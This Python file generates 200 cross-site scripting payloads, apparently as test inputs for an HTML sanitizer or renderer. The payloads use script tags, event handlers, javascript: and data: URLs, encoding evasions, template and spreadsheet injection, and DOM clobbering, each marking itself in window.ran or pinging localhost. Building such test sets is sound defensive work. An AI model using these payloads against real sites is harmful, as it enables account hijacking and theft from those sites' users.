"""200 ways to run a script out of a text, each of which would leave its number in `window.ran`, or ask the network."""

from itertools import product

AIM = "(window.ran=window.ran||[]).push({n})"
TAGS = [
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script\t>{js}</script\n>", "<script/x>{js}</script/x>",
    "</script><script>{js}</script>", "--><script>{js}</script><!--", "]]><script>{js}</script>",
    "</title><script>{js}</script>", "</style><script>{js}</script>", "</textarea><script>{js}</script>",
    "</template><script>{js}</script>", "</noscript><script>{js}</script>", "</svg><script>{js}</script>",
    "<script>/*</script>*/{js}//</script>", "<!--<script>--><script>{js}</script>", "<svg><script>{js}</script></svg>",
    "<svg><style><script>{js}</script></style></svg>", "<math><mtext><script>{js}</script></mtext></math>",
    "\x00<script>{js}</script>", "<scr<script>ipt>{js}</scr</script>ipt>", "<script>{js}", "<script src=data:,{js}>",
    "<script type=module>{js}</script>", "<script nonce=x>{js}</script>", "\u2028<script>{js}</script>\u2029",
    "<script src=http://127.0.0.1:9/{n}></script>", "<script src=//127.0.0.1:9/{n}></script>",
]  # fmt: skip
ELEMENTS = [
    "img src=x", "img src", "image src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus",
    "select autofocus", "textarea autofocus", "keygen autofocus", "details open", "marquee", "iframe", "object data=x",
    "embed src=x", "a href=# autofocus tabindex=0", "div tabindex=0 autofocus", "form", "style",
]  # fmt: skip
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onstart", "ONLOAD"]
ADDRESSES = [
    "javascript:{js}", "JaVaScRiPt:{js}", "java\tscript:{js}", "java\nscript:{js}", "&#106;avascript:{js}",
    "javascript&colon;{js}", "\x01javascript:{js}", "data:text/html,<script>{js}</script>", "vbscript:{js}",
    "data:text/html;base64,PHNjcmlwdD50b3AucmFuPVswXTwvc2NyaXB0Pg==", "http://127.0.0.1:9/{n}",
]  # fmt: skip
CARRIERS = ["<iframe src='{at}'>", "<object data='{at}'>", "<a href='{at}'>x</a>", "<form action='{at}'><button>x"]
OTHERS = [
    "<iframe srcdoc='<script>{js}</script>'>", "<base href=http://127.0.0.1:9/{n}/>", "<link rel=stylesheet href=x{n}>",
    "<link rel=prefetch href=http://127.0.0.1:9/{n}>", "<link rel=import href=http://127.0.0.1:9/{n}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/{n}'>",
    "<meta http-equiv=Content-Security-Policy content=''>", "<style>@import 'http://127.0.0.1:9/{n}';</style>",
    "<style>*{{background:url(http://127.0.0.1:9/{n})}}</style>", "<p style='background:url(http://127.0.0.1:9/{n})'>",
    "<p style='behavior:url(x);x:expression({js})'>", "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>", "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}>#x'>", "<svg><image href=x onerror={js}>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>", "<math href='javascript:{js}'>x</math>",
    "<img src='http://127.0.0.1:9/{n}.png'>", "<img srcset='http://127.0.0.1:9/{n}.png 1x'>",
    "<picture><source srcset=x><img onerror={js} src=x></picture>", "<video><source onerror={js}></video>",
    "<video poster=http://127.0.0.1:9/{n}>", "<audio src=http://127.0.0.1:9/{n} autoplay>",
    "<table background=http://127.0.0.1:9/{n}>", "<body background=http://127.0.0.1:9/{n}>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<x contenteditable autofocus onfocus={js}>x</x>",
    "<template><img src=x onerror={js}></template>", "<select><option><img src=x onerror={js}></select>",
    '"><img src=x onerror={js}>', "'><img src=x onerror={js}>", "`><img src=x onerror={js}>",
    '" onmouseover={js} x="', "' autofocus onfocus={js} x='", "\\\"><img src=x onerror={js}>", "';{js};//",
    '";{js};//', "`;{js};//", "${{{js}}}", "{{{{{js}}}}}", "{{% print {js} %}}", "<%= {js} %>", "#{{{js}}}",
    "&lt;img src=x onerror={js}&gt;", "&#60;img src=x onerror={js}&#62;", "%3Cimg src=x onerror={js}%3E",
    "\\u003cimg src=x onerror={js}\\u003e", "\\x3cimg src=x onerror={js}\\x3e", "\uff1cimg src=x onerror={js}\uff1e",
    "+ADw-img src=x onerror={js}+AD4-", "<<img src=x onerror={js}>>", "<img/src=x/onerror={js}>",
    "<img\x0csrc=x\x0conerror={js}>", "<img src=x onerror\n=\n{js}>", "<img src=x:x onerror='{js}'",
    "[x](javascript:{js})", "![x](http://127.0.0.1:9/{n})", "</script><svg onload={js}>",
    "\"}}]}}</script><svg onload={js}>",
    "=HYPERLINK(\"http://127.0.0.1:9/{n}\")", "<img id=document name=body src=x onerror={js}>",
    "<form id=theme><input name=textContent></form>", "<a id=explorer name=nodes href='javascript:{js}'>x</a>",
    "__proto__", "constructor", "<img src=x onerror=eval(atob('d2luZG93LnJhbj1bMV0='))>",
    "<img src=x onerror=import('http://127.0.0.1:9/{n}')>", "<img src=x onerror=fetch('http://127.0.0.1:9/{n}')>",
]  # fmt: skip


def payloads() -> list[str]:
    """200 different texts."""
    shapes = [*TAGS, *OTHERS]
    shapes += [carrier.replace("{at}", at) for carrier, at in product(CARRIERS, ADDRESSES)]
    shapes += [f"<{element} {event}={{js}}>" for event, element in product(EVENTS, ELEMENTS)]
    found = [shape.format(n=n, js=AIM.format(n=n)) for n, shape in enumerate(shapes)]
    return list(dict.fromkeys(found))[:200]
